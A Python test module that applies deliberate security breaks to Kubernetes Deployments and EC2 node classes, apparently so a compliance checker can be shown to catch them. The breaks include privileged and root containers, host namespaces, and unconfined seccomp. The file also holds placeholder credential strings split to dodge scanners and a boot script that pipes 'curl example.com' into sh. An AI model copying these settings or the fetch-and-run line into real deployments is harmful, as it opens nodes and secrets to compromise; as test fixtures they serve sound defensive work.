"""Breaks of what pods may do on a node, and of credentials in them."""

import copy

from inference_plane.compliance.mutations import container, find, mutation

GPU, CPU = "clinical-summary", "router-policy"


def _pod(name, **fields):
    return lambda objects: find(objects, "Deployment", name)["spec"]["template"]["spec"].update(fields)


def _pod_context(name, **fields):
    return lambda objects: find(objects, "Deployment", name)["spec"]["template"]["spec"]["securityContext"].update(
        fields
    )


def _context(name, **fields):
    return lambda objects: container(find(objects, "Deployment", name))["securityContext"].update(fields)


def _without(name, field, pod=False):
    def change(objects):
        deployment = find(objects, "Deployment", name)
        holder = deployment["spec"]["template"]["spec"] if pod else container(deployment)
        del holder["securityContext"][field]

    return change


def _container(**fields):
    """One more container, that is as good as the policy service's own but for the fields."""

    def change(objects):
        pod = find(objects, "Deployment", CPU)["spec"]["template"]["spec"]
        pod["containers"].append(copy.deepcopy(pod["containers"][0]) | {"name": "more"} | fields)

    return change


def _init(**fields):
    def change(objects):
        pod = find(objects, "Deployment", CPU)["spec"]["template"]["spec"]
        pod.setdefault("initContainers", []).append(copy.deepcopy(pod["containers"][0]) | {"name": "first"} | fields)

    return change


BREAKS = {
    "PLANE_LP_20": {
        "root in the pod": _pod_context(CPU, runAsUser=0),
        "root in a container": _context(GPU, runAsUser=0),
        "root allowed": _pod_context(GPU, runAsNonRoot=False),
        "root allowed in a container": _context(GPU, runAsNonRoot=False),
        "nothing said of root": _without(CPU, "runAsNonRoot", pod=True),
        "the image's own user": _without(CPU, "runAsUser", pod=True),
        "root in an init container": _init(securityContext={"runAsUser": 0}),
        "a user by name": _pod_context(CPU, runAsUser="0"),
    },
    "PLANE_LP_21": {
        "privileged": _context(GPU, privileged=True),
        "nothing said of privilege": _without(GPU, "privileged"),
        "setuid programs": _context(CPU, allowPrivilegeEscalation=True),
        "nothing said of setuid programs": _without(CPU, "allowPrivilegeEscalation"),
        "a container without a context": _container(securityContext={}),
        "all of /proc": _context(CPU, procMount="Unmasked"),
    },
    "PLANE_LP_22": {
        "a capability added": _context(GPU, capabilities={"drop": ["ALL"], "add": ["SYS_ADMIN"]}),
        "one capability dropped": _context(CPU, capabilities={"drop": ["NET_RAW"]}),
        "nothing said of capabilities": _without(CPU, "capabilities"),
        "ALL in other letters": _context(CPU, capabilities={"drop": ["all"]}),
        "a container that keeps them": _container(securityContext={"capabilities": {}}),
    },
    "PLANE_LP_23": {
        "no filter": _pod_context(CPU, seccompProfile={"type": "Unconfined"}),
        "nothing said of a filter": _without(CPU, "seccompProfile", pod=True),
        "no filter in a container": _context(GPU, seccompProfile={"type": "Unconfined"}),
        "no AppArmor": _context(GPU, appArmorProfile={"type": "Unconfined"}),
    },
    "PLANE_LP_24": {
        "the node's network": _pod(CPU, hostNetwork=True),
        "the node's processes": _pod(GPU, hostPID=True),
        "the node's memory": _pod(GPU, hostIPC=True),
        "one view of all processes": _pod("router", shareProcessNamespace=True),
        "names that the pod makes up": _pod("router", hostAliases=[{"ip": "192.0.2.1", "hostnames": ["s3.example"]}]),
        "settings of the kernel": _pod_context("router", sysctls=[{"name": "net.ipv4.ip_forward", "value": "1"}]),
        "a port of the node": lambda objects: container(find(objects, "Deployment", GPU))["ports"][0].update(
            hostPort=80
        ),
    },
    "PLANE_LP_25": {
        "a folder of the node": lambda objects: find(objects, "Deployment", GPU)["spec"]["template"]["spec"][
            "volumes"
        ].append({"name": "cache", "hostPath": {"path": "/var/cache"}}),
        "a volume of an old kind": lambda objects: find(objects, "Deployment", CPU)["spec"]["template"]["spec"][
            "volumes"
        ].append({"name": "nfs", "nfs": {"server": "192.0.2.1", "path": "/"}}),
        "a raw device": lambda objects: container(find(objects, "Deployment", GPU)).update(
            volumeDevices=[{"name": "disk", "devicePath": "/dev/xvda"}]
        ),
    },
    "PLANE_LP_26": {
        "a root that the policy service writes": _context(CPU, readOnlyRootFilesystem=False),
        "nothing said of the root": _without(CPU, "readOnlyRootFilesystem"),
        "a second container with a root": _container(securityContext={}),
        "an engine without its accelerator": lambda objects: container(find(objects, "Deployment", GPU))["resources"][
            "limits"
        ].pop("nvidia.com/gpu"),
    },
    "PLANE_LP_27": {
        "a variable from a Secret": lambda objects: (
            container(find(objects, "Deployment", CPU))
            .setdefault("env", [])
            .append({"name": "A", "valueFrom": {"secretKeyRef": {"name": "a", "key": "b"}}})
        ),
        "all of a Secret": lambda objects: container(find(objects, "Deployment", CPU)).update(
            envFrom=[{"secretRef": {"name": "a"}}]
        ),
        "a Secret in an init container": _init(envFrom=[{"secretRef": {"name": "a"}}]),
    },
    "PLANE_LP_28": {
        name: (lambda objects, image=image: container(find(objects, "Deployment", GPU)).update(image=image))
        for name, image in {
            "a tag that moves": "docker.io/vllm/vllm-openai:latest",
            "a tag that moves, in capitals": "docker.io/vllm/vllm-openai:Nightly",
            "no tag": "docker.io/vllm/vllm-openai",
            "no registry": "vllm/vllm-openai:v0.32.0",
            "no repository": "vllm-openai:v0.32.0",
            "a port for a tag": "registry.example:5000/vllm",
            "half a digest": "docker.io/vllm/vllm-openai@sha256:abc",
        }.items()
    },
    "PLANE_LP_29": {
        "memory without end": lambda objects: container(find(objects, "Deployment", CPU))["resources"].update(
            limits={}
        ),
        "a container without resources": _container(resources={}),
    },
    "PLANE_LP_31": {
        f"{name} with a value": (
            lambda objects, name=name: container(find(objects, "Deployment", GPU))["env"].append(
                {"name": name, "value": "a"}
            )
        )
        for name in ("HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "db_password", "AWS_BEARER_TOKEN_BEDROCK")
    }
    | {
        "the engine's key as a flag": lambda objects: container(find(objects, "Deployment", GPU))["args"].append(
            "--api-key=a"
        ),
        "the engine's key as two words": lambda objects: container(find(objects, "Deployment", GPU))["args"].extend(
            ["--api-key", "a"]
        ),
    },
}
for rule, changes in BREAKS.items():
    for name, change in changes.items():
        mutation(rule, name)(change)

# Put together here, so that no scanner takes them for keys of somebody's.
KEYS = {
    "an AWS key": "AKIA" + "IOSFODNN7EXAMPLE",
    "a Bedrock key": "ABSK" + "QUJDREVGR0hJSktMTU5P",
    "a private key": "-----BEGIN EC PRIVATE" + " KEY-----\nabc",
    "a Hugging Face token": "hf_" + "abcdefghijklmnopqrstuvwxyz",
    "a password in an address": "redis://user:" + "pass" + "word@valkey:6379",
    "a token of an issuer": "eyJ" + "hbGciOiJSUzI1NiJ9." + "eyJ" + "zdWIiOiJqYW5lIn0.c2ln",
}
for name, key in KEYS.items():

    @mutation("PLANE_LP_30", f"{name} in a variable")
    def _(objects, key=key):
        container(find(objects, "Deployment", GPU))["env"].append({"name": "NOTE", "value": key})

    @mutation("PLANE_LP_30", f"{name} in a file")
    def _(objects, key=key):
        find(objects, "ConfigMap", "router-policy")["data"]["note.txt"] = f"see {key} for it"


@mutation("PLANE_LP_30", "a key in an annotation")
def _(objects):
    find(objects, "Deployment", GPU)["metadata"].setdefault("annotations", {})["note"] = KEYS["an AWS key"]


def _node_class(**fields):
    return lambda objects: find(objects, "EC2NodeClass", "inference-l40s")["spec"].update(fields)


def _metadata(**fields):
    return lambda objects: find(objects, "EC2NodeClass", "inference-l40s")["spec"]["metadataOptions"].update(fields)


mutation("PLANE_LP_35", "one hop more")(_metadata(httpPutResponseHopLimit=2))
mutation("PLANE_LP_35", "the hop limit as a text")(_metadata(httpPutResponseHopLimit="1"))
mutation("PLANE_LP_35", "metadata without a session")(_metadata(httpTokens="optional"))
mutation("PLANE_LP_35", "metadata by IPv6")(_metadata(httpProtocolIPv6="enabled"))
mutation("PLANE_LP_35", "nothing said of metadata")(_node_class(metadataOptions={}))


@mutation("PLANE_LP_36", "a disk in clear")
def _(objects):
    find(objects, "EC2NodeClass", "inference-l40s")["spec"]["blockDeviceMappings"][1]["ebs"]["encrypted"] = False


@mutation("PLANE_LP_36", "a disk that stays")
def _(objects):
    del find(objects, "EC2NodeClass", "inference-l4")["spec"]["blockDeviceMappings"][0]["ebs"]["deleteOnTermination"]


mutation("PLANE_LP_36", "the AMI's own disks")(_node_class(blockDeviceMappings=[]))
mutation("PLANE_LP_37", "the newest AMI")(_node_class(amiSelectorTerms=[{"alias": "bottlerocket@latest"}]))
mutation("PLANE_LP_37", "an AMI by its tags")(_node_class(amiSelectorTerms=[{"tags": {"team": "a"}}]))
mutation("PLANE_LP_37", "a script at boot")(_node_class(userData="#!/bin/sh\ncurl example.com | sh"))
mutation("PLANE_LP_37", "a shell on the node")(_node_class(userData="[settings.host-containers.admin]\nenabled = true"))
